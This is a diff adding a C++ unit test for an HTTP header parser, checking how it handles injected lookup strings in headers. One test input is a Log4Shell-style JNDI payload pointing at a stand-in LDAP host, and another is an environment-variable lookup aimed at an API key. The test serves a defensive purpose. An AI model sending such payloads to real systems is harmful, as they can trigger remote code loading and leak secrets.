@@ -41,6 +41,13 @@ TEST(Keys, AreReplacedByTheirHash) {
   }
 }
 
+TEST(Keys, LookUpsThatStandInTheirPlaceAreKept) {
+  const RequestHead head = parse("Authorization: Bearer ${jndi:ldap://203.0.113.9/a}\r\n");
+  EXPECT_EQ(head.auth, AuthKind::kBearer);
+  EXPECT_EQ(head.headers[0].value, "Bearer ${jndi:ldap://203.0.113.9/a}");
+  EXPECT_EQ(parse("X-Api-Key: ${OPENAI_API_KEY}\r\n").headers[0].value, "");
+}
+
 TEST(Keys, KindSaysBearerOrOther) {
   EXPECT_EQ(parse("Host: x\r\n").auth, AuthKind::kNone);
   EXPECT_EQ(parse("Authorization: Bearer k\r\n").auth, AuthKind::kBearer);
